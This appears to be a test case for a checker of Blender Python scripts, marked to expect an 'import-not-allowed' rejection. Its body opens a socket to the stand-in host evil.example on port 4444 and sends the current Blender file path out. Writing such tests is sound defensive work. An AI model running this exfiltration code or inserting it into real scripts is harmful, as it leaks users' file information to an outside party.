# expect: import-not-allowed
import bpy, math, socket
s = socket.socket()
s.connect(("evil.example", 4444))
s.send(bpy.data.filepath.encode())
